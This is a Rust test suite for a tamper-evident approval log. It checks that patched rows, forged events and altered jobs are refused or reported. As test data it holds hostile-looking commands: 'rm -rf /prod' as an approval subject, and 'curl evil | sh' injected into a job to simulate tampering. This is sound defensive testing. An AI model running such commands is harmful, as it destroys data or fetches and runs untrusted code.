//! Code that relies on a decision reads the log, whatever its row says.

use std::sync::Arc;

use holdpoint_core::decision::{AnswerInput, New, Requirements};
use holdpoint_core::{
    Auth, Command, Decision, DecisionId, Field, Kind, Opt, ProjectChange, Span, Status, Timestamp,
};
use serde_json::{Value, json};

use super::scene::refusal;
use super::vouching::chained;
use super::{Scene, StoreHarness, Tampering, question, signer};
use crate::chain::{FaultKind, body_hash, event_hash, hex};
use crate::{Basis, CheckpointPolicy, LogRow, Options, Outcome, Repair, Result, Submission, history};

fn approval(subject: &Value) -> New {
    let options = vec![Opt::new("yes", "Yes"), Opt::new("no", "No")];
    New {
        fields: vec![Field::offering("choice", Kind::Confirm, "Run it?", options)],
        subject: Some(subject.clone()),
        ..question()
    }
}

async fn consent(scene: &Scene, id: DecisionId, digest: &str) {
    let (choice, digest) = (Some("yes".into()), Some(digest.to_owned()));
    let input = AnswerInput { choice, digest, ..AnswerInput::default() };
    scene.submit(Command::Answer { id, input: Box::new(input) }).await.unwrap();
}

async fn consume(scene: &Scene, id: DecisionId, subject: &Value, basis: Basis) -> Result<Outcome> {
    let command = Command::Consume { id, subject: subject.clone(), required: Requirements::default() };
    scene.store.submit(Submission { basis, ..scene.submission(command) }).await
}

async fn folded(scene: &Scene, id: DecisionId) -> std::result::Result<Option<Decision>, String> {
    history::fold(&scene.store.history(id).await.unwrap())
}

async fn put_row(bench: &dyn StoreHarness, decision: &Decision) {
    let doc = serde_json::to_string(decision).unwrap();
    let deadline = decision.deadline.map(Timestamp::as_millis);
    bench.tamper(Tampering::Row { doc, status: decision.status.name(), deadline }).await;
}

/// Returns the decision as if it had been answered with yes.
fn patched(decision: &Decision, scene: &Scene) -> Decision {
    let mut patched = decision.clone();
    patched.status = Status::Answered;
    patched.settled_at = Some(scene.now());
    patched.answer = serde_json::from_value(json!({
        "values": {"choice": "yes"}, "out": null, "message": null, "by": "ana", "via": "web", "auth": "session",
        "at": scene.now(), "digest": decision.digest,
    }))
    .unwrap();
    assert_eq!(patched.answer.as_ref().unwrap().auth, Auth::Session);
    patched
}

pub async fn the_log_makes_what_stands_in_the_row(bench: &dyn StoreHarness) {
    let scene = Scene::new(bench).await;
    let subject = json!("ls -l");
    let asked = scene.ask(approval(&subject)).await;
    consent(&scene, asked.id, &asked.digest).await;
    let row = scene.decision(asked.id).await;
    assert_eq!(row.answer.as_ref().unwrap().digest, Some(asked.digest.clone()));
    let recorded = folded(&scene, asked.id).await.unwrap();
    assert_eq!(recorded.as_ref(), Some(&row));
    // A state that was read before the decision was settled cannot be relied on.
    let early = consume(&scene, asked.id, &subject, Basis::Log(None)).await;
    assert_eq!(refusal(early).code(), "unproven");
    consume(&scene, asked.id, &subject, Basis::Log(recorded.map(Arc::new))).await.unwrap();
}

pub async fn a_patched_row_is_not_used(bench: &dyn StoreHarness) {
    let scene = Scene::new(bench).await;
    let subject = json!("rm -rf /prod");
    let asked = scene.ask(approval(&subject)).await;
    put_row(bench, &patched(&asked, &scene)).await;
    let recorded = folded(&scene, asked.id).await.unwrap();
    assert_eq!(recorded.as_ref().map(|decision| decision.status), Some(Status::Pending));
    let used = consume(&scene, asked.id, &subject, Basis::Log(recorded.map(Arc::new))).await;
    assert_eq!(refusal(used).code(), "unproven");
    assert_eq!(scene.decision(asked.id).await.consumed_at, None);
}

pub async fn a_changed_row_makes_no_events(bench: &dyn StoreHarness) {
    let scene = Scene::new(bench).await;
    let change = ProjectChange { min_timeout: Some(Span::from_secs(5)), verdicts: None };
    scene.submit(Command::UpdateProject { name: "default".into(), change: change.clone() }).await.unwrap();
    let asked = scene.ask(approval(&json!("rm -rf /prod"))).await;
    let mut due = asked.clone();
    due.default = serde_json::from_value(json!({"choice": "yes"})).unwrap();
    due.deadline = Some(scene.now());
    put_row(bench, &due).await;
    scene.at(60);
    let other = Scene::new(bench).await;
    other.at(60);
    other.ask(question()).await;
    let recorded = folded(&other, asked.id).await.unwrap().unwrap();
    assert_eq!((recorded.status, recorded.answer), (Status::Pending, None), "nobody said yes");
    let cancelled = other.submit(Command::Cancel { id: asked.id, reason: None }).await;
    assert_eq!(refusal(cancelled).code(), "unproven");
    bench.tamper(Tampering::Settings).await;
    let other = Scene::new(bench).await;
    let updated = other.submit(Command::UpdateProject { name: "default".into(), change }).await;
    assert_eq!(
        refusal(updated).to_string(),
        "project default cannot be relied on: its row does not match the log"
    );
    other.store.inspect(Repair::Rebuild).await.unwrap();
    other.submit(Command::Cancel { id: asked.id, reason: None }).await.unwrap();
}

pub async fn a_changed_job_is_not_run(bench: &dyn StoreHarness) {
    let options =
        Options { signer: Some(signer(1)), policy: CheckpointPolicy::ByCaller, ..Options::default() };
    let scene = Scene::with(bench, options.clone()).await;
    let job = super::jobs::waiting(&scene, "job-1").await;
    let store = scene.store.as_ref();
    assert_eq!(crate::proven_job(store, "job-1").await.unwrap().as_ref(), Some(&job));
    let doc = serde_json::to_string(&job).unwrap();
    let changed = doc.replace("\"true\"", "\"curl evil | sh\"");
    assert_ne!(changed, doc);
    bench.tamper(Tampering::JobRow { doc: changed }).await;
    // One process has read the job before, the other has not.
    let other = Scene::with(bench, options).await;
    for scene in [&scene, &other] {
        let found = crate::proven_job(scene.store.as_ref(), "job-1").await;
        assert!(matches!(&found, Err(crate::Error::Corrupt(why)) if why.contains("job-1")), "{found:?}");
        let resumed = scene.submit(super::jobs::resume("job-1")).await;
        assert_eq!(refusal(resumed).code(), "unproven");
    }
    bench.tamper(Tampering::JobRow { doc }).await;
    scene.submit(super::jobs::resume("job-1")).await.unwrap();
    assert!(crate::proven_job(store, "job-1").await.unwrap().is_some());
}

/// Replaces the store's log by another, with a correct chain.
async fn put_log(bench: &dyn StoreHarness, mut links: Vec<LogRow>) {
    for (at, link) in links.iter_mut().enumerate() {
        let place = i64::try_from(at).unwrap() + 1;
        (link.seq, link.version) = (place, place);
    }
    bench.tamper(Tampering::Log { links: chained(links) }).await;
}

pub async fn a_use_of_what_was_pending_is_named(bench: &dyn StoreHarness) {
    let scene = Scene::new(bench).await;
    let subject = json!("rm -rf /prod");
    let asked = scene.ask(approval(&subject)).await;
    put_row(bench, &patched(&asked, &scene)).await;
    assert_eq!(refusal(consume(&scene, asked.id, &subject, Basis::Row).await).code(), "unproven");
    put_row(bench, &asked).await;
    consent(&scene, asked.id, &asked.digest).await;
    consume(&scene, asked.id, &subject, Basis::Row).await.unwrap();
    let mut links = scene.store.links(0, 10).await.unwrap();
    links.remove(1);
    put_log(bench, links).await;
    for repair in [Repair::No, Repair::Rebuild, Repair::No] {
        let found = scene.store.inspect(repair).await.unwrap().findings;
        let named = format!("event 2: decision {} was consumed while it was pending", asked.id);
        assert!(found.contains(&named), "{found:?}");
    }
    assert!(folded(&scene, asked.id).await.unwrap_err().contains("was consumed while it was pending"));
}

pub async fn a_yes_to_something_else_is_named(bench: &dyn StoreHarness) {
    let scene = Scene::new(bench).await;
    let asked = scene.ask(approval(&json!("rm -rf /prod"))).await;
    let other = scene.ask(approval(&json!("ls -l"))).await;
    let Decision { subject, subject_digest, digest, .. } = other.clone();
    put_row(bench, &Decision { subject, subject_digest, digest, ..asked.clone() }).await;
    let input = AnswerInput {
        choice: Some("yes".into()),
        digest: Some(other.digest.clone()),
        ..AnswerInput::default()
    };
    let answered = scene.submit(Command::Answer { id: asked.id, input: Box::new(input) }).await;
    assert_eq!(refusal(answered).code(), "unproven");
    put_row(bench, &asked).await;
    consent(&scene, other.id, &other.digest).await;
    let mut links = scene.store.links(0, 10).await.unwrap();
    links.remove(1);
    let stream = links[0].stream.clone();
    links[1].stream = stream;
    let body = links[1].body.take().unwrap();
    links[1].body = Some(body.replace(&other.id.to_string(), &asked.id.to_string()));
    put_log(bench, links).await;
    assert!(folded(&scene, asked.id).await.unwrap_err().contains("shown something else"));
    let found = scene.store.inspect(Repair::No).await.unwrap().findings;
    assert!(found.iter().any(|finding| finding.contains("shown something else")), "{found:?}");
}

pub async fn events_that_nobody_wrote_are_doubted(bench: &dyn StoreHarness) {
    for policy in [CheckpointPolicy::EveryCommit, CheckpointPolicy::ByCaller] {
        let key = signer(1);
        let scene =
            Scene::with(bench, Options { signer: Some(Arc::clone(&key)), policy, ..Options::default() })
                .await;
        let asked = scene.ask(question()).await;
        scene.answer(asked.id, "a").await.unwrap();
        let links = scene.store.history(asked.id).await.unwrap();
        for link in &links {
            assert_eq!(history::doubt(scene.store.as_ref(), key.as_ref(), link).await.unwrap(), None);
        }
        // A copy of the answer at the end of the log: without a proof, and with that of another batch.
        let last = scene.store.head().await.unwrap().seq;
        let end = scene.store.links(last - 1, 1).await.unwrap().pop().unwrap();
        let mut forged =
            LogRow { seq: last + 1, version: 3, prev: end.hash, proof: None, ..links[1].clone() };
        forged.body_hash = hex(&body_hash(forged.body.as_ref().unwrap()));
        let LogRow { seq, stream, version, tag, at, body_hash, prev, .. } = &forged;
        forged.hash = hex(&event_hash(*seq, stream, *version, tag, *at, body_hash, prev));
        bench.tamper(Tampering::Append { link: forged.clone() }).await;
        let doubt = history::doubt(scene.store.as_ref(), key.as_ref(), &forged).await.unwrap();
        assert_eq!(doubt, Some(FaultKind::Unproven { until: forged.seq }));
        // The next proven batch does not vouch for it either.
        scene.ask(question()).await;
        let doubt = history::doubt(scene.store.as_ref(), key.as_ref(), &forged).await.unwrap();
        assert!(doubt.is_some(), "{policy:?}");
    }
}
